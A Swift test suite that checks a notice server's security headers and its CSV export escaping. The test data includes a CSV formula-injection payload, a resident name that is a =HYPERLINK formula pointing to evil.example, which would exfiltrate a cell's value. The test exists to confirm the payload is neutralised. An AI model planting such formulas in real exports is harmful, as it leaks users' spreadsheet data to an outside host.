import Foundation
import LoaCore
import LoaHTTP
import LoaStore
import Testing

/// Every answer of the real server carries `nosniff`; pages refuse to be framed; exports are
/// attachments that no cache keeps (one middleware, so routes added later are covered too).
@Suite("Security headers", .serialized)
struct SecurityHeaderTests {
    static func expectFramingRefused(_ response: HTTPResponse, _ what: String) {
        #expect(response.headers["X-Frame-Options"] == "DENY", "\(what)")
        let policy = response.headers["Content-Security-Policy"] ?? ""
        #expect(policy.contains("frame-ancestors 'none'") && policy.contains("default-src 'none'"), "\(what): \(policy)")
    }

    static func expectExport(_ response: HTTPResponse, _ what: String) {
        #expect(response.status == 200, "\(what)")
        #expect(response.headers["Cache-Control"] == "no-store", "\(what)")
        #expect(response.headers["Content-Disposition"]?.hasPrefix("attachment") == true, "\(what)")
    }

    @Test
    func everyAnswerCarriesTheHeaders() async throws {
        let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm\")"
        let server = try await ServerHarness.start(
            moreResidents: [ResidentInput(name: name, phone: Residents.phone("0977000222"), hamlet: "Đồng Tâm")])
        let admin = try await server.bearer(.admin, label: "headers-admin")
        let link = try await server.token("Nguyễn Văn An")
        let cookie = try await DashboardTests.signIn(server, .admin, label: "headers-dashboard")
        let notice = server.notice.id
        _ = try await server.store.createNotice(
            NoticeDraft(
                kind: .notice, title: "Thông báo", body: "Nội dung", audience: [.phone(Residents.phone("0977000222"))],
                channels: try ChannelPolicy(parsing: "sms"), sendAt: Date(), createdBy: "test"))

        var answers: [(String, HTTPResponse)] = []
        for path in ["/login", "/m/\(link)", "/m/\(link)/s.css", "/m/0123456789abcdef0123456789abcdef", "/nowhere", "/healthz", "/metrics"] {
            answers.append((path, try await server.request(.get, path)))
        }
        for path in ["/", "/notices/\(notice)", "/notices/\(notice)/unread"] {
            answers.append((path, try await server.request(.get, path, headers: ["Cookie": cookie])))
        }
        for path in ["/api/notices", "/api/notices/\(notice)", "/api/residents"] {
            answers.append((path, try await server.request(.get, path, headers: admin)))
        }
        answers.append(("no token", try await server.request(.get, "/api/notices")))
        answers.append(("hook", try await server.request(.post, "/hooks/zalo/wrong/status", body: Array("{}".utf8))))
        for (path, response) in answers {
            #expect(response.headers["X-Content-Type-Options"] == "nosniff", "\(path) → \(response.status)")
            if (response.headers["Content-Type"] ?? "").hasPrefix("text/html") {
                Self.expectFramingRefused(response, path)
                // Not `no-referrer`: under it Chrome posts a page's own forms with `Origin: null`
                // (Fetch, "serializing a request origin"), which the dashboard refuses.
                #expect(response.headers["Referrer-Policy"] == "same-origin", "\(path)")
            }
            if path.hasPrefix("/api/") || path == "no token" {
                #expect(response.headers["Cache-Control"] == "no-store", "\(path)")
            }
        }
        for path in ["/login", "/m/\(link)", "/notices/\(notice)"] {
            #expect(answers.first { $0.0 == path }?.1.headers["Content-Type"]?.hasPrefix("text/html") == true, "\(path) is a page")
        }

        let apiCSV = try await server.request(.get, "/api/notices/\(notice)/unread?format=csv", headers: admin)
        Self.expectExport(apiCSV, "API CSV")
        let apiJSON = try await server.request(.get, "/api/notices/\(notice)/unread?format=json", headers: admin)
        Self.expectExport(apiJSON, "API JSON unread")
        let dashboardCSV = try await server.request(.get, "/notices/\(notice)/unread.csv", headers: ["Cookie": cookie])
        Self.expectExport(dashboardCSV, "dashboard CSV")

        // The exports' CSV goes through the one writer: the formula name arrives as text.
        let others = try #require(try await server.store.notices().first { $0.id != notice })
        for (what, response) in [
            ("API", try await server.request(.get, "/api/notices/\(others.id)/unread?format=csv", headers: admin)),
            ("dashboard", try await server.request(.get, "/notices/\(others.id)/unread.csv", headers: ["Cookie": cookie])),
        ] {
            let csv = String(decoding: response.body, as: UTF8.self)
            #expect(csv.contains(#","'=HYPERLINK(""http://evil.example/?""&A1,""Bấm"")",0977000222,"#), "\(what): \(csv)")
        }
        await server.stop()
    }
}
